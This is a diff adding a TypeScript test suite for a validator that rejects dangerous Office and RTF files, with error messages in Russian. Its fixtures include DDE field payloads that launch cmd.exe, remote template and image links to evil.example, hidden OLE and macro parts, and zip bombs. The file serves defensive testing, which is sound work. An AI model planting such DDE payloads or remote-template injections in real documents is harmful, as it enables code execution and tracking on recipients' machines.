@@ -1,0 +1,176 @@
+import { readdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import { expect, test } from "vitest";
+import { demoMedia } from "../../../testing/test-database.ts";
+import { doc, docx, packageOf } from "../files-for-tests.ts";
+import { checkOffice } from "./check-office.ts";
+import { isOldWordDocument } from "./compound-file.ts";
+import { packageType } from "./office-package.ts";
+import { demandPlainRtf } from "./rich-text.ts";
+
+const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const relation = (type: string, target: string, mode = "External") =>
+  `<Relationships><Relationship Id="rId1" Type="${types}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
+const relations = (type: string, target: string, mode?: string) =>
+  docx({ "word/_rels/document.xml.rels": relation(type, target, mode) });
+const paragraph = (xml: string) =>
+  docx({ "word/document.xml": `<w:document><w:body><w:p>${xml}</w:p></w:body></w:document>` });
+const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
+const field = (...inside: string[]) =>
+  [char("begin"), ...inside, char("separate"), "<w:t>1</w:t>", char("end")].join("");
+const contentType = (type: string) =>
+  docx({
+    "[Content_Types].xml": `<Types><Override PartName="/word/document.xml" ContentType="application/${type}"/></Types>`,
+  });
+const workbook = (parts: Record<string, string>) =>
+  packageOf({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", ...parts });
+const utf16 = (xml: string) => Buffer.from(`\ufeff${xml}`, "utf16le");
+const compound = doc();
+
+test.each<[string, Buffer, RegExp]>([
+  ["a project of macros", docx({ "word/vbaProject.bin": "x" }), /макросы/],
+  ["a project of macros under another name", relations("vbaProject", "media/image1.png", "Internal"), /макросы/],
+  ["a DOCM that was renamed", contentType("vnd.ms-word.document.macroEnabled.main+xml"), /макросы/],
+  ["an XLSM that was renamed", contentType("vnd.ms-excel.sheet.macroEnabled.main+xml"), /макросы/],
+  ["macros of Excel 4", workbook({ "xl/macrosheets/sheet1.xml": "<m/>" }), /макросы/],
+  [
+    "macros in a sheet within a document",
+    docx({ "word/embeddings/a.xlsx": workbook({ "xl/vbaProject.bin": "x" }) }),
+    /макросы/,
+  ],
+  ["an object of OLE", docx({ "word/embeddings/oleObject1.bin": "x" }), /вложен/],
+  ["an object under the name of a picture", docx({ "word/media/image1.png": compound }), /вложен/],
+  ["a tag of an object", paragraph('<w:object><o:OLEObject Type="Embed"/></w:object>'), /вложен/],
+  ["ActiveX", docx({ "word/activeX/activeX1.xml": "<ax:ocx/>" }), /вложен/],
+  ["another file that Word reads in", relations("aFChunk", "chunk.rtf", "Internal"), /вложен/],
+  ["DDE", paragraph(field(instruction(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))), /DDE/],
+  ["DDE strewn over runs", paragraph(field(instruction("DD"), instruction("E cmd"))), /DDE/],
+  ["DDE in a simple field", paragraph('<w:fldSimple w:instr=" dde cmd"/>'), /DDE/],
+  ["DDE under a prefix of its own", paragraph('<x:fldSimple x:instr="DDEAUTO cmd"/>'), /DDE/],
+  ["DDE in a header, by references", docx({ "word/header1.xml": '<w:fldSimple w:instr="D&#68;E cmd"/>' }), /DDE/],
+  ["DDE in letters of two bytes", docx({ "word/document.xml": utf16('<w:fldSimple w:instr="DDE cmd"/>') }), /DDE/],
+  [
+    "a field whose name another field works out",
+    paragraph(field(field(instruction("QUOTE 68 68 69")), instruction("cmd"))),
+    /DDE/,
+  ],
+  ["DDE in a workbook", workbook({ "xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>' }), /DDE/],
+  ["a template from the network", relations("attachedTemplate", "https://evil.example/a.dotm"), /шаблон/],
+  [
+    "a template from another machine",
+    relations("attachedTemplate", "file:///\\\\evil.example\\share\\a.dotm"),
+    /шаблон/,
+  ],
+  ["a template behind escapes", relations("attachedTemplate", "%68ttps://evil.example/a.dotm"), /шаблон/],
+  ["a picture from the network", relations("image", "https://evil.example/pixel.png"), /загружает/],
+  ["a picture from another machine", relations("image", "\\\\evil.example\\share\\pixel.png"), /загружает/],
+  [
+    "a workbook on another machine",
+    workbook({
+      "xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "//evil.example/a.xlsx"),
+    }),
+    /загружает/,
+  ],
+  [
+    "data that are fetched when it opens",
+    workbook({ "xl/connections.xml": '<connection refreshOnLoad="1"/>' }),
+    /загружает/,
+  ],
+  [
+    "a package within packages without end",
+    docx({ "word/a": docx({ "word/a": docx({ "word/a": docx() }) }) }),
+    /вложен/,
+  ],
+])("%s is refused in words", (_what, bytes, words) => {
+  expect(() => packageType(bytes)).toThrow(words);
+});
+
+test("what Word writes by itself, links that people follow and charts with their numbers are taken", () => {
+  const honest = docx({
+    "word/_rels/document.xml.rels": relation("hyperlink", "https://site.example/").replace(
+      "</",
+      `<Relationship Id="rId2" Type="${types}/image" Target="file:///C:\\Temp\\msohtmlclip1\\01\\clip_image001.png" TargetMode="External"/><Relationship Id="rId3" Type="${types}/package" Target="../embeddings/Sheet.xlsx"/></`,
+    ),
+    "word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:\\Users\\Врач\\Templates\\Бланк.dotx"),
+    "word/document.xml": `<w:p>${field(instruction(' TOC \\o "1-3" '), field(instruction(" = "), field(instruction("PAGE")), instruction("+ 1")))}${field(instruction(' HYPERLINK "https://dde.example/DDE" '))}<w:fldSimple w:instr=" PAGE "/><w:t>DDEAUTO</w:t></w:p>`,
+    "word/embeddings/Sheet.xlsx": workbook({ "xl/worksheets/sheet1.xml": "<worksheet/>" }),
+    "word/printerSettings1.bin": "x",
+  });
+  expect(packageType(honest)).toBe("docx");
+});
+
+test("every document of the demonstration is taken", async () => {
+  const folder = demoMedia();
+  const files = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) =>
+    /\.(docx?|xlsx)$/.test(name),
+  );
+  expect(new Set(files.map((name) => name.split(".").at(-1)))).toEqual(new Set(["doc", "docx", "xlsx"]));
+  for (const name of files) {
+    const bytes = readFileSync(join(folder, name));
+    if (name.endsWith(".doc")) demandPlainRtf(bytes);
+    else expect(packageType(bytes), name).toBe(name.split(".").at(-1));
+  }
+  expect(await checkOffice(readFileSync(join(folder, files.find((name) => name.endsWith(".doc")) ?? "")))).toBe("doc");
+});
+
+test("what comes out of a package is measured, all parts together, whatever it says of itself", () => {
+  const zeroes = new Uint8Array(200_000);
+  const bomb = docx(Object.fromEntries(Array.from({ length: 10 }, (_, index) => [`word/media/${index}`, zeroes])));
+  expect(packageType(bomb, 2_001_000)).toBe("docx");
+  expect(() => packageType(bomb, 1_999_000)).toThrow("слишком большой");
+  const size = Buffer.alloc(4);
+  size.writeUInt32LE(zeroes.length);
+  for (let at = bomb.indexOf(size); at >= 0; at = bomb.indexOf(size)) bomb.writeUInt32LE(10, at);
+  expect(() => packageType(bomb, 1_999_000)).toThrow("слишком большой");
+});
+
+test("a part that cannot be unpacked is refused in words", () => {
+  const locked = docx();
+  locked.writeUInt16LE(1, locked.indexOf("PK\u0003\u0004") + 6);
+  expect(() => packageType(locked)).toThrow("повреждён");
+});
+
+test.each<[string, Buffer, RegExp]>([
+  ["macros", doc("_VBA_PROJECT"), /макросы/],
+  ["macros in other letters", doc("_vba_Project_cur"), /макросы/],
+  ["an object", doc("_1234567890"), /вложен/],
+  ["a file in a wrapper", doc("\u0001Ole10Native"), /вложен/],
+  ["DDE", Buffer.concat([doc(), Buffer.from("\u0013 DDEAUTO cmd \u0015", "latin1")]), /DDE/],
+  ["DDE in letters of two bytes", Buffer.concat([doc(), Buffer.from("\u0013dde cmd", "utf16le")]), /DDE/],
+  [
+    "a template from the network",
+    Buffer.concat([doc(), Buffer.from("http://evil.example/a.dotm", "utf16le")]),
+    /шаблон/,
+  ],
+])("an old document with %s is refused in words", (_what, bytes, words) => {
+  expect(() => isOldWordDocument(bytes)).toThrow(words);
+});
+
+test("an old document is taken, also with the empty store of objects that Word leaves in it", () => {
+  expect(isOldWordDocument(doc("ObjectPool", "\u0005SummaryInformation"))).toBe(true);
+  expect(isOldWordDocument(doc().subarray(0, 512))).toBe(false);
+});
+
+test.each<[string, string, RegExp]>([
+  ["an object", "{\\object\\objemb{\\*\\objdata 0105}}", /вложен/],
+  ["a link that is followed by itself", "{\\object\\objautlink}", /вложен/],
+  ["DDE", "{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd}}", /DDE/],
+  ["DDE in groups and numbers", "{\\field{\\*\\fldinst {\\rtlch \\u68?\\'44E cmd}}}", /DDE/],
+  ["a template from the network", "{\\*\\template http://evil.example/a.dotm}", /шаблон/],
+  ["a template in numbers", "{\\*\\template \\u104?\\u116?tp://evil.example/a}", /шаблон/],
+])("rich text with %s is refused in words", (_what, rtf, words) => {
+  expect(() => demandPlainRtf(Buffer.from(`{\\rtf1${rtf}}`))).toThrow(words);
+});
+
+test("rich text with links and a template on its writer's disk is taken", () => {
+  const link = '{\\field{\\*\\fldinst{HYPERLINK "https://site.example/"}}{\\fldrslt DDE}}';
+  expect(() => demandPlainRtf(Buffer.from(`{\\rtf1{\\*\\template C:\\\\Users\\\\a.dotm}${link}}`))).not.toThrow();
+});
+
+test("a check that takes more than it may ends in words, and the next file is checked", async () => {
+  const long = docx({ "word/document.xml": "</a>".repeat(2_000_000) });
+  await expect(checkOffice(long, { mostTime: 300 })).rejects.toThrow("слишком сложный");
+  expect(await checkOffice(docx())).toBe("docx");
+  expect(await checkOffice(packageOf({ "readme.txt": "…" }))).toBeUndefined();
+});
